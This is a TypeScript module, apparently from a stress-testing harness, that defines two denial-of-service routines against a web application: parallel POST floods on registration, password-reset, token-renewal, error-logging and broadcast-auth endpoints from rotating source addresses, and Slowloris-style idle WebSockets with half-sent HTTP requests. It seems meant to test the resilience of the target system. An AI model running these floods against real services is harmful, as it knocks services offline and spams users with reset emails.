import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { type Attack, attackerAddress, inParallel, strike, type Target } from '../target.ts';

const publicCalls: readonly ((index: number) => [path: string, body: object])[] = [
  (index) => [
    '/api/v1/store',
    {
      name: 'Enxurrada',
      email: `enxurrada${index}@certame.example`,
      password: 'Enxurrada1',
      password_confirmation: 'Enxurrada1',
    },
  ],
  (index) => ['/api/v1/password/email', { email: `enxurrada${index}@certame.example` }],
  () => ['/api/v1/password/email', { email: 'student@certame.example' }],
  () => ['/api/v1/token/renew', {}],
  () => ['/api/v1/user_client_exceptions/', { type: 'error', data: { message: 'x'.repeat(5000) } }],
];

export const requestFloods: Attack = {
  name: 'floods: registration, links by mail, renewal, authorisation, documentation',
  run: async (target) => {
    const count = target.scale.floodRequests;
    await inParallel(count, 20, (index) => {
      const [path, body] = publicCalls[index % publicCalls.length]?.(index) ?? ['/', {}];
      return strike(target, 'POST', path, {
        body: JSON.stringify(body),
        localAddress: attackerAddress(index % 8),
      });
    });
    await inParallel(count, 20, (index) =>
      strike(target, 'POST', '/broadcasting/auth', {
        account: target.members.student,
        body: JSON.stringify({ socket_id: `1.${index}`, channel_name: `private-user.${index}` }),
      }),
    );
    await inParallel(count / 5, 20, () => strike(target, 'GET', '/api/docs/json'));
  },
};

const opened = (target: Target, index: number): Promise<WebSocket | undefined> =>
  new Promise((resolve) => {
    const socket = new WebSocket(`${target.address.replace('http', 'ws')}/app/certame?protocol=7`, {
      localAddress: attackerAddress(index),
      handshakeTimeout: 20_000,
    });
    socket.on('open', () => resolve(socket));
    socket.on('error', () => resolve(undefined));
  });

function halfRequest(target: Target, index: number): Socket {
  const { hostname, port } = new URL(target.address);
  const localAddress = attackerAddress(index);
  const socket = connect({ host: hostname, port: Number(port), ...(localAddress ? { localAddress } : {}) });
  socket.on('error', () => {});
  socket.write('POST /api/v1/login HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{');
  return socket;
}

export const idleConnections: Attack = {
  name: 'connections that do nothing: sockets that join nothing, half requests',
  run: async (target) => {
    const sockets: (WebSocket | undefined)[] = [];
    const halves: Socket[] = [];
    await inParallel(target.scale.idleSockets, 20, async (index) => {
      sockets.push(await opened(target, index));
      if (index % 4 === 0) halves.push(halfRequest(target, index));
    });
    await sleep(3000);
    for (const socket of sockets) socket?.terminate();
    for (const socket of halves) socket.destroy();
  },
};
